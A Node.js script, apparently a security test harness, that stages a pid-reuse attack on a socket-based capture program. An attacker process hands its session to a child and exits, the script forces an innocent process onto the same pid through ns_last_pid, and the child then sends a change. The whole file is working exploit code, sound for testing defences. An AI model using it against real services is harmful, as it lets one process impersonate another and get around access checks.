// Played as the first process of a pid namespace, which may choose pids there: a program connects to the capture, gives its session to a child and ends; an innocent one gets its
// pid; then the child makes a change. Arguments: the capture's command line. Each line of standard input is a cue. Environment: SOCKET; HELLO and CHANGE, frames in hexadecimal.
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { connect, Socket } from 'node:net';
import { createInterface } from 'node:readline';

const { SOCKET, HELLO, CHANGE, PART } = process.env;
const bytes = (hexadecimal) => Buffer.from(hexadecimal, 'hex');

/** Has the session, and is not who connected. */
async function child() {
  const session = new Socket({ fd: 3 });
  process.stdout.write('child ready\n');
  await once(process.stdin, 'data');
  session.write(bytes(CHANGE));
  const [answer] = await once(session, 'data');
  process.stdout.write(`answered with type ${answer.readUInt16LE(4)}\n`);
  await once(process.stdin, 'end');
}

async function attacker() {
  const session = connect(SOCKET);
  await once(session, 'connect');
  session.write(bytes(HELLO));
  await once(session, 'data');
  session.pause();
  const heir = spawn(process.execPath, [process.argv[1]], {
    stdio: ['inherit', 'pipe', 'inherit', session],
    env: { ...process.env, PART: 'child' },
  });
  await once(heir.stdout, 'data');
  process.exit();
}

/** A process with that pid, which another one had. A thread of somebody else may have taken it: then again. */
async function innocent(pid) {
  for (let tries = 0; tries < 100; tries++) {
    writeFileSync('/proc/sys/kernel/ns_last_pid', String(pid - 1));
    const other = spawn('sh', ['-c', 'read x', 'innocent'], { stdio: ['pipe', 'ignore', 'inherit'] });
    if (other.pid === pid) return other;
    other.kill('SIGKILL');
    await once(other, 'exit');
  }
  throw new Error(`pid ${pid} was not given again`);
}

async function play() {
  const cues = createInterface({ input: process.stdin })[Symbol.asyncIterator]();
  const [program, ...args] = process.argv.slice(2);
  spawn(program, args, { stdio: ['pipe', 'inherit', 'inherit'] });
  await cues.next();
  const first = spawn(process.execPath, [process.argv[1]], {
    stdio: ['pipe', 'inherit', 'inherit'],
    env: { ...process.env, PART: 'attacker' },
  });
  await once(first, 'exit');
  await innocent(first.pid);
  process.stdout.write(`pid ${first.pid} is another's\n`);
  first.stdin.write('go\n');
  await cues.next();
  process.exit();
}

await { attacker, child, play }[PART ?? 'play']();
